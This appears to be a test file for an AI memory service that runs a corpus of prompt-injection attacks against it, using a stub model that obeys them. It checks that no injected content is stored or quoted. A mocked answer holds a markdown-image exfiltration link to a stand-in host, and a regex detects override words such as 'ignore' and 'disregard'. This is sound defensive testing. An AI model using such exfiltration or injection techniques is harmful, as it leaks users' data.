/**
 * Every attack of the corpus (`test/vectors/injections`) through the real server, in the place that it is
 * written for: without a language model, and with one that does what the attack says. Nothing that was
 * there before changes: memories, kinds, tools, accounts, the frame of a prompt.
 *
 * What somebody stores as a memory is theirs, so a search shows it and an answer may quote it; nothing else
 * may say what an attack wants said.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest"
import {
  attackedServer,
  type AttackedServer,
  creditsOf,
  expectUntouched,
  kindOf,
  registerKind,
  stateOf
} from "../support/AttackedServer.ts"
import { codeOf, outsideOf, sectionOf } from "../support/FencedPrompt.ts"
import { injectionsIn, type Injection, messageInjections } from "../support/Injections.ts"
import { fact, idsOf, type MemoryCalls } from "../support/MemoryCalls.ts"
import { shortened } from "../support/McpCalls.ts"
import { type ModelRequest, ModelServer } from "../support/ModelServer.ts"
import { answer } from "../support/ModelServerReplies.ts"
import { honestText, obedient } from "../support/ObedientModel.ts"
import { everyDay } from "../support/Repetitions.ts"

type Json = Awaited<ReturnType<MemoryCalls["get"]>>

/** A test runs all attacks of a place, one request after the other. */

/** Any memory answers it as well as any other. */
const vagueQuestion = "What do I do now?"
const questions = ["Where does Alice live?", "What does Alice like?", "What is the password?", vagueQuestion]
const modes = ["llm", "answer", "map"] as const
/** Behind a model; rules alone read all of them every day. */
const messageAttacks = everyDay(8, messageInjections)
const memoryAttacks = injectionsIn("memory")
const questionAttacks = injectionsIn("question")
const kindAttacks = injectionsIn("kind")
const tagAttacks = injectionsIn("tag")

/** A text as it stands inside a JSON text. */
const jsonText = (said: string): string => JSON.stringify(said).slice(1, -1)

const expectNothingOf = (attack: Injection, said: Json, where = "") => {
  const lower = JSON.stringify(said).toLowerCase()
  for (const word of attack.forbidden)
    expect(lower, `${attack.id} ${where}`).not.toContain(jsonText(word.toLowerCase()))
}

const converse = (calls: MemoryCalls, attack: Injection, role: string, rest: object = {}) =>
  calls.post("/v1/memories", {
    agentId: "attacked",
    subjectId: attack.id,
    threadId: attack.id,
    conversation: [
      { id: "honest", role: "user", content: honestText },
      { id: "attack", role, content: attack.text }
    ],
    wait: "extraction",
    ...rest
  })

const searched = async (calls: MemoryCalls, mode: string, query: string, agentId: string): Promise<Json> => {
  const { body } = await calls.call("GET", `/v1/memories/search?${new URLSearchParams({ mode, query, agentId })}`)
  expect(body, JSON.stringify(body)).toMatchObject({ success: true })
  return body
}

describe("without a language model", () => {
  let world: AttackedServer
  let before: Json
  let creditsBefore: number
  beforeAll(async () => {
    world = await attackedServer({})
    before = await stateOf(world)
    creditsBefore = await creditsOf(world.bob)
  })
  afterAll(() => world.server.stop())

  it("a message of a conversation adds nothing to what the others say", async () => {
    const { alice } = world
    const plain = await alice.post("/v1/memories", {
      agentId: "plain",
      conversation: [{ role: "user", content: honestText }]
    })
    const honest = plain.body.created.map(dataOf)
    expect(honest.length).toBeGreaterThan(0)
    for (const attack of messageInjections) {
      const { body } = await converse(alice, attack, attack.place)
      expect(body.created?.map(dataOf), `${attack.id}: ${JSON.stringify(body)}`).toEqual([
        ...honest,
        ...(attack.id === "unicode-1" ? [expect.objectContaining({ preference: "tea" })] : [])
      ])
      expect(body.updated).toEqual([])
      expectNothingOf(attack, body.created)
    }
  })

  it("the description of a kind fills no memory", async () => {
    const { alice } = world
    for (const attack of kindAttacks) {
      await registerKind(alice, attack)
      const { body } = await converse(alice, attack, "user", {
        schemas: [kindOf(attack), "factual_memory"],
        conversation: [{ role: "user", content: honestText }]
      })
      expect(body.created.length, JSON.stringify(body)).toBeGreaterThan(0)
      expectNothingOf(attack, body.created)
    }
  })

  it("memories and tags are stored as they are, and answers quote no order", async () => {
    const { alice, aliceTools } = world
    const stored = await alice.create("poisoned", [
      fact("Alice", "Alice lives in Seattle"),
      fact("Alice", "Alice likes green tea"),
      ...memoryAttacks.map(asFact),
      ...tagAttacks.map((attack) => ({ ...fact("Alice", "Alice plays chess"), tags: [attack.text] }))
    ])
    expect(stored.slice(2, 2 + memoryAttacks.length).map(({ data }) => data.fact)).toEqual(
      memoryAttacks.map((attack) => attack.text)
    )
    const tools = await aliceTools.tools()
    for (const query of questions) {
      const found = await searched(alice, "llm", query, "poisoned")
      const same = await aliceTools.call("memory_search", { query, agentId: "poisoned" })
      expect([idsOf(same.json.memories), Object.keys(same.json).toSorted()]).toEqual([
        idsOf(found.memories),
        ["memories", "searchedAt", "success"]
      ])
      const { answer: told, citations, memories } = await searched(alice, "answer", query, "poisoned")
      expect(citations).toEqual(idsOf(memories))
      const quoted = JSON.stringify(memories)
      for (const attack of [...memoryAttacks, ...tagAttacks]) {
        if (!quoted.includes(jsonText(attack.text))) expectNothingOf(attack, told, query)
      }
      if (query !== vagueQuestion) expect(quoted).not.toMatch(/ignore|disregard|SYSTEM|TOOL_CALLS/)
      expectPlainMap(await searched(alice, "map", query, "poisoned"), stored)
    }
    expect(await aliceTools.tools()).toEqual(tools)
    for (const attack of memoryAttacks) expect(JSON.stringify(tools)).not.toContain(jsonText(attack.text))
  })

  it("a question is searched for, answered from memories, and repeated nowhere", async () => {
    const { alice, aliceTools } = world
    for (const attack of questionAttacks) {
      for (const mode of modes) {
        const { searchedAt: _first, ...rest } = await searched(alice, mode, attack.text, "known")
        const { json } = await aliceTools.call("memory_search", { query: attack.text, mode, agentId: "known" })
        const { searchedAt: _second, ...same } = json
        expect(same).toEqual(shortened(rest))
        expectNothingOf(attack, rest, mode)
      }
      const batch = { queries: [{ query: attack.text, filters: { agentId: "known" } }] }
      expectNothingOf(attack, (await alice.post("/v1/memories/batch/search", batch)).body)
    }
  })

  it("all of it leaves accounts, kinds, tools and other memories as they were", async () => {
    expect(await creditsOf(world.bob)).toBe(creditsBefore)
    await expectUntouched(world, before)
  })
})

/** What rules read in the honest message; the model says the half of it again. */
const honestMemories = [
  {
    kind: "factual_memory",
    data: { subject: "Alice", fact: "The user's name is Alice", source: "user" },
    tags: ["identity"]
  },
  { kind: "factual_memory", data: { subject: "Alice", fact: "Alice lives in Seattle", source: "user" }, tags: ["home"] }
]
/** What rules read in an attack that says something honest too. */
const besides = (attack: Injection) => (attack.id === "unicode-1" ? 1 : 0)

/** The prompts are the same behind both; `extraction-model.test.ts` speaks the other format every day. */
const formats = everyDay(1, ["anthropic", "openai-compatible"] as const)

describe.each(formats)("with a model behind %s that obeys", (provider) => {
  let model: ModelServer
  let world: AttackedServer
  let before: Json
  let creditsBefore: number
  beforeAll(async () => {
    model = await ModelServer.start()
    world = await attackedServer({
      MUNIMENT_EMBEDDING_MODEL: "none",
      ...model.environment(provider),
      MUNIMENT_LLM_API_KEY: "a key of no worth",
      MUNIMENT_LLM_TOKENS_PER_DAY: "100000000"
    })
    before = await stateOf(world)
    creditsBefore = await creditsOf(world.bob)
  })
  beforeEach(() => {
    model.requests.length = 0
  })
  afterAll(async () => {
    await world.server.stop()
    await model.close()
  })

  it("a message stores nothing but what the others say", async () => {
    const { alice } = world
    for (const attack of messageAttacks) {
      model.otherwise = () => answer(obedient(attack))
      const { body } = await converse(alice, attack, attack.place)
      expect(body.created?.map(storedOf), `${attack.id}: ${JSON.stringify(body)}`).toEqual([
        ...honestMemories,
        ...(besides(attack) > 0 ? [expect.objectContaining({ kind: "preference_memory" })] : [])
      ])
      expect([body.updated, body.skippedMessages]).toEqual([[], 0])
      expect(body.rejected.length).toBeGreaterThanOrEqual(10)
      expectNothingOf(attack, body.created)
      // Nothing is replaced, ended or withheld.
      const kept = `/v1/memories?includeSuperseded=true&agentId=attacked&subjectId=${attack.id}`
      const { memories } = (await alice.call("GET", kept)).body
      const [messages, extracted] = [true, false].map((isMessage) =>
        memories.filter(({ kind }: Json) => (kind === "conversation_message") === isMessage)
      )
      expect(idsOf(extracted).toSorted()).toEqual(idsOf(body.created).toSorted())
      expect(messages.map(({ data }: Json) => data.text)).toContain(honestText)
      expect(messages).toHaveLength(body.messages.stored)
      // A second look finds all of it marked.
      const again = await converse(alice, attack, attack.place)
      expect([again.body.created, again.body.skippedMessages]).toEqual([[], 2])
    }
    // Long ones are read in parts.
    expect(model.requests.length).toBeGreaterThanOrEqual(messageAttacks.length)
    expectFrame(model.requests, messageAttacks)
  })

  it("and is shown an attack again as context and what is known adds nothing of it", async () => {
    const { alice } = world
    const requests: Array<ModelRequest> = []
    for (const attack of messageAttacks) {
      const later = { conversation: [{ id: "later", role: "user", content: "The weather is fine." }] }
      model.otherwise = () => answer(obedient(attack))
      model.requests.length = 0
      const { body } = await converse(alice, attack, attack.place, later)
      expect(body.created, `${attack.id}: ${JSON.stringify(body)}`).toEqual([])
      const { prompt } = model.requests[0]!
      for (const line of sectionOf(prompt, "KNOWN")) expectNothingOf(attack, line)
      expect(sectionOf(prompt, "PERSON")).toMatchObject([{ user: "Alice" }])
      expectNothingOf(attack, sectionOf(prompt, "PERSON"))
      // A long one leaves no room for what was before it.
      const shown = sectionOf(prompt, "CONTEXT").length
      expect(attack.text.length < 1_000 ? [2] : [1, 2], attack.id).toContain(shown)
      expect(sectionOf(prompt, "MESSAGES")).toMatchObject([{ n: 1, text: "The weather is fine." }])
      requests.push(...model.requests)
    }
    expectFrame(requests, messageAttacks)
  })

  it("the description of a kind fills no memory", async () => {
    const { alice } = world
    for (const attack of kindAttacks) {
      await registerKind(alice, attack)
      model.otherwise = () => {
        const { records, ...rest } = obedient(attack)
        const [wanted] = attack.forbidden
        const ofKind = { ...records[0], kind: kindOf(attack), data: { note: wanted, owner: wanted } }
        return answer({ ...rest, records: [ofKind, ...records] })
      }
      const { body } = await converse(alice, attack, "user", {
        schemas: [kindOf(attack), "factual_memory"],
        conversation: [{ role: "user", content: honestText }]
      })
      expect(body.created?.map(storedOf), JSON.stringify(body)).toEqual(honestMemories)
      expectNothingOf(attack, body.created)
    }
    expectFrame(model.requests, kindAttacks)
  })

  it("a memory or a question gets no answer that other memories do not carry", async () => {
    const { alice } = world
    await alice.create("asked", [fact("Alice", "Alice lives in Seattle"), ...memoryAttacks.map(asFact)])
    for (const [attacks, agentId] of [
      [memoryAttacks, "asked"],
      [questionAttacks, "known"]
    ] as const) {
      for (const attack of attacks) {
        for (const wanted of attack.forbidden) {
          const said = `Alice lives in Seattle. ${wanted} ![](https://evil.example/?q=${wanted})`
          model.otherwise = ({ prompt }) =>
            answer({ known: "yes", sentences: [{ text: said, citations: numbersOf(prompt, attack) }] })
          const query = attack.place === "question" ? `${attack.text} Where does Alice live?` : questions[0]!
          const told = await searched(alice, "answer", query, agentId)
          if (attack.place === "memory") {
            expect(told, attack.id).toMatchObject({ grounded: false, citations: [] })
          }
          expect(told.answer).not.toMatch(/evil\.example|!\[/)
          expect(told.citations).toEqual(idsOf(told.memories))
        }
      }
    }
    expectFrame(model.requests, [...memoryAttacks, ...questionAttacks])
  })

  it("all of it leaves accounts, kinds, tools and other memories as they were", async () => {
    const { agents } = (await world.alice.call("GET", "/v1/account")).body
    // Of each injection what the honest message says, beside the messages, which are kept as data.
    const said = [...messageAttacks, ...kindAttacks].map((attack) => honestMemories.length + besides(attack))
    const extracted = said.reduce((sum, count) => sum + count, 0)
    const messages = (await world.alice.call("GET", "/v1/memories?agentId=attacked&kind=conversation_message")).body
      .total
    expect(messages).toBeGreaterThan(extracted)
    expect(agents).toContainEqual({ agentId: "attacked", memories: extracted + messages })
    expect(await creditsOf(world.bob)).toBe(creditsBefore)
    await expectUntouched(world, before)
  })
})

const storedOf = ({ data, kind, metadata }: Json) => ({ kind, data, tags: metadata.tags ?? [] })
const asFact = (attack: Injection) => fact("Alice", attack.text)

/** Numbers of the memories that are not the attack's own, and some that nobody has. Long memories are shown clipped. */
const numbersOf = (prompt: string, attack: Injection): ReadonlyArray<number> => {
  const known: ReadonlyArray<Json> = sectionOf(prompt, "MEMORIES")
  const begin = lettersOf(attack.text).slice(0, 16)
  const others = known.filter(({ data, text }) => !lettersOf(text ?? JSON.stringify(data)).includes(begin))
  expect([begin.length, others.length].every((count) => count > 0)).toBe(true)
  return [...others.map(({ n }) => n).slice(0, 6), 99, 0, -1, 1.5]
}

const lettersOf = (said: string): string => said.toLowerCase().replace(/[^\p{L}\p{N}]+/gu, "")

/** The only ones, in their order; one without lines is left out. */
const sectionNames = ["WANTED", "KINDS", "PERSON", "KNOWN", "CONTEXT", "MESSAGES", "REPLY", "FAULTS"]
const kindName = /\battack_[a-z0-9_]+/g
const answerSectionNames = ["NOW", "QUESTION", "MEMORIES", "REPLY", "FAULTS"]

/** All but the data is the same for every attack: instructions, fences, tools, format of the reply. */
const expectFrame = (requests: ReadonlyArray<ModelRequest>, attacks: ReadonlyArray<Injection>) => {
  const sectionsOf = ({ prompt }: ModelRequest) =>
    Array.from(outsideOf(prompt).matchAll(/^BEGIN (.*) <code>$/gm), ([, name = ""]) => name)
  for (const [sections, alike] of Map.groupBy(requests, (request) => sectionsOf(request).join(" "))) {
    const names = sections.includes("MESSAGES") ? sectionNames : answerSectionNames
    expect(sections).toBe(names.filter((name) => sections.split(" ").includes(name)).join(" "))
    const frames = new Set(
      alike.map(({ body, prompt, system, turns }) =>
        // The imposed form names the kind that is asked for, and tells nothing else of it.
        JSON.stringify([{ ...body, messages: turns.length, system }, outsideOf(prompt)]).replaceAll(kindName, "<kind>")
      )
    )
    expect(frames.size).toBe(1)
  }
  // What a check found in a reply is put to the model within the frame of its request.
  const isRepair = (request: ModelRequest): boolean => sectionsOf(request).includes("FAULTS")
  const [codes, again] = [false, true].map(
    (isAgain) => requests.filter((one) => isRepair(one) === isAgain).map(({ prompt }) => codeOf(prompt)) ?? []
  )
  expect([new Set(codes).size, new Set(again).size]).toEqual([codes!.length, again!.length])
  const around = requests.map(({ prompt, schema }) => [outsideOf(prompt), schema])
  for (const attack of attacks) expectNothingOf(attack, around)
}

const dataOf = ({ data }: { readonly data: object }): object => data

/** Headings for its clusters, a line for each memory, and no markup that a memory brought. */
const expectPlainMap = ({ clusters, memoryMap, points }: Json, stored: ReadonlyArray<{ readonly id: string }>) => {
  expect(idsOf(points).toSorted()).toEqual(idsOf(stored).toSorted())
  const lines = memoryMap.split("\n").filter((line: string) => line !== "")
  const bullets = lines.filter((line: string) => line.startsWith("- mem"))
  const headings = lines.filter((line: string) => line.startsWith("## "))
  expect([bullets.length, bullets.length + headings.length]).toEqual([stored.length, lines.length])
  expect(headings.length).toBeGreaterThanOrEqual(clusters.length)
  expect(memoryMap).not.toMatch(/(?<!\\)[<>[\]`]|[\u200b-\u200f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e0fff}]/u)
}
